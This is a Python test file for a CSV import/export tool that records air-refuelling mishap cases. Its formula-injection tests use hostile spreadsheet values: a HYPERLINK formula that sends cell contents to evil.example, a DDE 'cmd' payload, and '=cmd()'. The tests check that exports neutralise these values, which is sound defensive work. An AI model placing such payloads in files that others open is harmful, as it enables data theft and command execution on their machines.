"""CSV import: a spreadsheet row is a case, checked by the same rules as YAML."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from mishaps.csvfile import REQUIRED

HEADER = [*REQUIRED, "fatalities", "occurrence_categories", "causes", "country", "latitude"]


def write_csv(path: Path, rows: list[dict[str, str]], columns: list[str] = HEADER) -> Path:
    buf = io.StringIO()
    writer = csv.DictWriter(buf, columns, lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    path.write_text(buf.getvalue(), encoding="utf-8")
    return path


ROW = {
    "id": "2020-05-01-csv-case", "title": "Boom strikes receiver canopy",
    "occurred_on": "2020-05-01", "status": "preliminary", "service": "USAF",
    "location": "Over west Texas", "aircraft": "tanker KC-46A (17-46031); receiver F-16C",
    "summary": "The boom struck the canopy.",
    "source_urls": "https://www.example.org/a https://www.example.org/b",
    "fatalities": "", "occurrence_categories": "MAC; SCF-NP",
    "causes": "Late disconnect; boom operator fatigue", "country": "US", "latitude": "31.5",
}  # fmt: skip


def test_a_row_becomes_a_whole_case(runner, tmp_path) -> None:
    assert runner("init", "--empty").exit_code == 0  # only init creates a named database
    path = write_csv(tmp_path / "cases.csv", [ROW])
    assert runner("import", path).exit_code == 0
    case = json.loads(runner("show", ROW["id"], "--format", "json").stdout)
    assert case["aircraft"][0] == {
        "role": "tanker", "type": "KC-46A", "serial": "17-46031", "unit": None, "callsign": None,
        "crew": None, "fatalities": None, "injuries": None, "damage": None,
    }  # fmt: skip
    assert [(a["role"], a["type"], a["serial"]) for a in case["aircraft"]][1] == (
        "receiver",
        "F-16C",
        None,
    )
    assert case["fatalities"] is None  # an empty cell is unknown, never 0
    assert case["location"] == {
        "description": "Over west Texas",
        "country": "US",
        "latitude": 31.5,
        "longitude": None,
        "approximate": None,
        "basis": None,
    }
    assert case["occurrence_categories"] == ["MAC", "SCF-NP"]
    assert [(f["kind"], f["text"]) for f in case["findings"]] == [
        ("cause", "Late disconnect"),
        ("cause", "boom operator fatigue"),
    ]
    assert [(s["url"], s["title"], s["kind"]) for s in case["sources"]] == [
        (u, u, "other") for u in ROW["source_urls"].split()
    ]


def test_exported_csv_imports_back_unchanged(runner, seeded_db, tmp_path) -> None:
    exported = runner("export", "--format", "csv").stdout
    path = tmp_path / "all.csv"
    path.write_text(exported, encoding="utf-8")
    fresh = tmp_path / "fresh.db"
    assert runner("--db", fresh, "init", "--empty").exit_code == 0
    result = runner("--db", fresh, "import", path)
    assert result.exit_code == 0, result.stderr
    again = runner("--db", fresh, "export", "--format", "csv").stdout
    # The derived class may rest on per-aircraft damage ("destroyed"), which CSV cannot carry
    # (docs/format.md, "What CSV cannot say"); every column CSV does carry comes back unchanged.
    assert _without(again, DERIVED_FROM_UNCARRIED) == _without(exported, DERIVED_FROM_UNCARRIED)
    # ... and a second pass is a fixed point: nothing drifts further.
    path.write_text(again, encoding="utf-8")
    assert runner("--db", fresh, "import", path, "--on-conflict", "replace").exit_code == 0
    assert runner("--db", fresh, "export", "--format", "csv").stdout == again


DERIVED_FROM_UNCARRIED = ("derived_class", "class")


def _without(text: str, columns: tuple[str, ...]) -> list[dict[str, str]]:
    rows = list(csv.DictReader(io.StringIO(text)))
    return [{k: v for k, v in row.items() if k not in columns} for row in rows]


def test_every_missing_column_is_named(runner, tmp_path) -> None:
    path = tmp_path / "cases.csv"
    path.write_text("id,title\n2020-05-01-x,Title\n", encoding="utf-8")
    result = runner("validate", path)
    assert result.exit_code == 1
    missing = [c for c in REQUIRED if c not in ("id", "title")]
    assert result.stderr.splitlines() == [f"{path}: missing column {c!r}" for c in missing] + [
        f"Error: {len(missing)} problems found; nothing was written"
    ]


def test_a_file_of_many_bad_rows_or_columns_shows_a_screenful_and_a_count(runner, tmp_path):
    from mishaps.errors import MAX_PROBLEMS_PER_FILE

    rows = tmp_path / "ragged.csv"
    rows.write_text(",".join(REQUIRED) + "\n" + "x\n" * 100_000, encoding="utf-8")
    header = tmp_path / "header.csv"
    header.write_text(",".join(f"col{i}" for i in range(100_000)) + "\n", encoding="utf-8")
    for path, first, more in [
        (rows, f"{rows}:2: row has 1 cells; the header has {len(REQUIRED)}", 99_950),
        (header, f"{header}:1: unknown column 'col0'", 100_000 - 50 + len(REQUIRED)),
    ]:
        result = runner("validate", path)
        assert result.exit_code == 1
        lines = result.stderr.splitlines()
        assert len(lines) == MAX_PROBLEMS_PER_FILE + 2
        assert lines[0] == first
        assert lines[-2] == f"{path}: and {more:,} more problems"


def test_row_errors_name_the_line_the_row_starts_on(runner, tmp_path) -> None:
    # lines: 1 header, 2 ROW, 3-5 the three-line summary, 6 the bad row
    multiline = {**ROW, "id": "2020-05-02-csv-case", "summary": "First line.\nSecond line.\nThird."}
    bad = {**ROW, "id": "2020-05-03-csv-case", "latitude": "north", "status": "rumour"}
    path = write_csv(tmp_path / "cases.csv", [ROW, multiline, bad])
    result = runner("import", path)
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        f"{path}:6: 2020-05-03-csv-case: status: 'rumour' is not one of press, preliminary, final",
        f"{path}:6: 2020-05-03-csv-case: latitude: expected a number, got 'north'",
        "Error: 2 problems found; nothing was written",
    ]
    assert runner("show", ROW["id"]).exit_code == 1  # the good rows were not imported either


def test_duplicate_ids_across_csv_and_yaml_are_caught(runner, tmp_path) -> None:
    path = write_csv(tmp_path / "cases.csv", [ROW, ROW])
    result = runner("validate", path)
    assert (
        result.stderr.splitlines()[0]
        == f"{path}:3: {ROW['id']}: id: duplicate id; first seen in {path}"
    )


def test_aircraft_count_must_match(runner, tmp_path) -> None:
    path = write_csv(
        tmp_path / "cases.csv", [{**ROW, "aircraft_count": "3"}], [*HEADER, "aircraft_count"]
    )
    result = runner("validate", path)
    assert result.stderr.splitlines()[0] == (
        f"{path}:2: {ROW['id']}: aircraft: aircraft_count is 3 but 2 aircraft are listed"
    )


# --- formula injection (issue 11, item 9) ------------------------------------------------------

HOSTILE = {
    "title": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "operation": "+cmd|' /C calc'!A0",
    "service": "@SUM(1+1)",
    "summary": "-2+3 is what the cell shows",
    "notes": "'quoted already",
}


def test_csv_export_neutralises_formulas_and_imports_back_unchanged(
    runner, fresh_db, tmp_path
) -> None:
    good = Path(__file__).parent / "good_case.yaml"
    text = good.read_text(encoding="utf-8")
    text = text.replace("title: KC-135R and F-16C touch during contact\n", "")
    text = text.replace("service: USAF\n", "")
    text = text.replace("summary: The receiver struck the boom during contact.\n", "")
    for key, value in HOSTILE.items():
        text += f"{key}: {json.dumps(value)}\n"
    text = text.replace(
        "    text: The receiver closed too fast.", "    text: '=1+2 closed too fast.'"
    )
    case_file = tmp_path / "hostile.yaml"
    case_file.write_text(text, encoding="utf-8")
    assert runner("init", "--empty").exit_code == 0
    assert runner("import", case_file).exit_code == 0
    exported = runner("export", "--format", "csv").stdout
    row = next(csv.DictReader(io.StringIO(exported)))
    for key, value in HOSTILE.items():
        if key in row:
            assert row[key] == "'" + value, key
    assert row["causes"] == "'=1+2 closed too fast."
    assert row["longitude"] == "-90.25"  # a number stays a number
    assert row["latitude"] == "27.5"
    for cell in (c for r in csv.reader(io.StringIO(exported)) for c in r):
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r") or cell == "-90.25"
    original = runner("export", "--format", "json").stdout
    path = tmp_path / "back.csv"
    path.write_text(exported, encoding="utf-8")
    fresh = tmp_path / "fresh.db"
    assert runner("--db", fresh, "init", "--empty").exit_code == 0
    assert runner("--db", fresh, "import", path).exit_code == 0
    back = json.loads(runner("--db", fresh, "export", "--format", "json").stdout)["mishaps"][0]
    mine = json.loads(original)["mishaps"][0]
    for key in ("title", "operation", "service", "summary"):
        assert back[key] == mine[key] == HOSTILE[key], key
    assert back["findings"][0]["text"] == "=1+2 closed too fast."
    assert runner("--db", fresh, "export", "--format", "csv").stdout == exported


def test_list_and_stats_csv_neutralise_formulas_too(runner, fresh_db, tmp_path) -> None:
    good = Path(__file__).parent / "good_case.yaml"
    text = good.read_text(encoding="utf-8").replace(
        "title: KC-135R and F-16C touch during contact", "title: '=cmd()'"
    )
    (tmp_path / "c.yaml").write_text(text.replace("service: USAF", "service: '@x'"))
    assert runner("init", "--empty").exit_code == 0
    assert runner("import", tmp_path / "c.yaml").exit_code == 0
    listed = next(csv.DictReader(io.StringIO(runner("list", "-f", "csv").stdout)))
    assert (listed["title"], listed["service"]) == ("'=cmd()", "'@x")
    stats = list(
        csv.DictReader(io.StringIO(runner("stats", "--by", "service", "-f", "csv").stdout))
    )
    assert stats[0]["key"] == "'@x"


def test_the_csv_field_table_reads_back_what_it_writes() -> None:
    """Every column the table maps to a field comes back from a written row unchanged."""
    from mishaps.csvfile import CSV_FIELDS, case_cells, row_to_case
    from mishaps.ingest import load_files
    from mishaps.schema import validate_case
    from tests.conftest import SEED_FILES

    mapped = [f for f in CSV_FIELDS if f.path]
    assert {"notes", "refueling_mechanism", "approximate"} <= {f.column for f in mapped}
    for loaded in load_files(SEED_FILES):
        cells = {k: str(v) for k, v in case_cells(loaded.case).items() if v not in (None, "")}
        data, issues = row_to_case(cells)
        back, problems = validate_case(data)
        assert not issues and not problems and back is not None, loaded.case.id
        for f in mapped:
            want, got = loaded.case, back
            for part in f.path.split("."):
                want, got = getattr(want, part), getattr(got, part)
            assert got == want, (loaded.case.id, f.column)
